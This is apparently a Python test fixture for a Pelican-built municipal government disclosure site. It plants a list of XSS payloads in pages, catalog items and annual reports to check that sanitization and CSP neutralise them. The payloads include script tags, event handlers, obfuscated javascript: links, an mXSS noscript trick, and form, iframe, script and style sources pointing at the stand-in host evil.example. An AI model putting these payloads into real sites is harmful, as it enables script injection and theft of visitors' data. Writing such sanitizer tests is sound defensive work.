"""A copy of the fixture site (tests/fixtures/site) with hostile content in every HTML-bearing input.

Every payload, if it ran, would set ``window.__pwned`` (or change the title), navigate away, or
make a request to ``evil.example``; the built HTML and a real Chromium under the site's CSP
must show none of that (tests/hostile/test_sanitize_site.py, tests/browser/test_hostile_csp.py).
"""
from __future__ import annotations

import shutil
from pathlib import Path

from tests.conftest import ROOT, build_site

SITE = ROOT / "tests" / "fixtures" / "site"
EVIL = "evil.example"

# HTML an editor (or an attacker with a pull request) could write into a body or a content page
PAYLOAD_HTML = """\
<script>window.__pwned = "script"; document.title = "pwned"</script>
<img src="x.png" onerror="window.__pwned = 'onerror'">
<svg onload="window.__pwned = 'svg'"><circle r="1"></circle></svg>
<iframe srcdoc="<script>parent.__pwned = 'srcdoc'</script>"></iframe>
<iframe src="https://evil.example/frame"></iframe>
<a id="tab" href="java&#x09;script:window.__pwned = 'tab'">制表符链接</a>
<a id="entity" href="&#106;avascript:window.__pwned = 'entity'">实体链接</a>
<a id="case" href=" JaVaScRiPt:window.__pwned = 'case'">大小写链接</a>
<a id="vb" href="vbscript:msgbox(1)">VBScript 链接</a>
<a id="data" href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">data 链接</a>
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<base href="https://evil.example/">
<form action="https://evil.example/steal"><input name="q"><button id="steal">提交</button></form>
<style>@import url("https://evil.example/x.css"); body { background: url("https://evil.example/bg.png") }</style>
<object data="https://evil.example/x.swf"></object>
<embed src="https://evil.example/x.swf">
<link rel="stylesheet" href="https://evil.example/y.css">
<script src="https://evil.example/x.js"></script>
<script src="/gk/MB1C37504/2024-00003/evil.js"></script>
<p id="styled" style="background: url(https://evil.example/s.png)">带样式的段落</p>
<p><a id="ok" href="https://www.gov.cn/zhengce/">正常链接</a></p>
"""
PAYLOAD_MARKDOWN = """\
[Markdown 链接](javascript:window.__pwned='md')

[实体 Markdown 链接](&#106;avascript:window.__pwned='md-entity')

![data 图片](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)

<noscript><p title="</noscript><img src=x onerror=window.__pwned='mxss'>"></noscript>
"""
PAGE = "Title: 安全测试页面\nSlug: hostile\nSummary: 概述<script>window.__pwned = 'summary'</script>\n\n正文开始。\n\n"
HTML_PAGE = ("<html><head><title>网页格式测试</title><meta name=\"slug\" content=\"hostile-html\">"
             "<script>window.__pwned = 'head'</script></head><body><p>网页正文</p>" + PAYLOAD_HTML + "</body></html>")
ITEM = """---
index_no: MB1C37504/2025-00099
title: 安全测试条目
category: 行政规范性文件
publisher: 海澄市人民政府
published: 2025-03-01
written: 2025-02-26
topics: [综合政务/政务公开]
validity: 有效
attachments:
  - {path: hostile-files/x.png, title: 图片（正文中的 img 指向它）}
---
条目正文开始。

"""
REPORT = """format: free
title: 海澄市人民政府2018年政府信息公开工作年度报告
published: 2019-03-28
figures: {received: 143, disclosed: 81}
body: |
  年报正文开始。

"""


def indent(text: str, spaces: int = 2) -> str:
    return "".join(" " * spaces + line + "\n" for line in text.splitlines())


def write_hostile(target: Path) -> Path:
    """The fixture site copied to ``target`` with the hostile files added; returns its settings file."""
    shutil.copytree(SITE, target)
    pages = target / "content" / "pages"
    (pages / "hostile.md").write_text(PAGE + PAYLOAD_HTML + "\n" + PAYLOAD_MARKDOWN, encoding="utf-8")
    (pages / "hostile-html.html").write_text(HTML_PAGE, encoding="utf-8")
    (target / "catalog" / "gfxwj" / "hostile.md").write_text(ITEM + PAYLOAD_HTML + "\n" + PAYLOAD_MARKDOWN,
                                                              encoding="utf-8")
    # the payload's <img src="x.png"> names a real attachment: the catalog refuses links to missing files
    (target / "catalog" / "gfxwj" / "hostile-files").mkdir()
    (target / "catalog" / "gfxwj" / "hostile-files" / "x.png").write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(32))
    reports = target / "content" / "reports"
    reports.mkdir()
    (reports / "2018.yml").write_text(REPORT + indent(PAYLOAD_HTML + "\n" + PAYLOAD_MARKDOWN), encoding="utf-8")
    return target / "pelicanconf.py"


URLS = {"page": "hostile/", "html_page": "hostile-html/", "item": "gk/MB1C37504/2025-00099/", "report": "ndbg/2018/"}


def build_hostile(tmp: Path) -> Path:
    """Build the hostile site; the build must succeed (sanitizing is silent, not an error)."""
    return build_site(tmp, write_hostile(tmp / "site"))
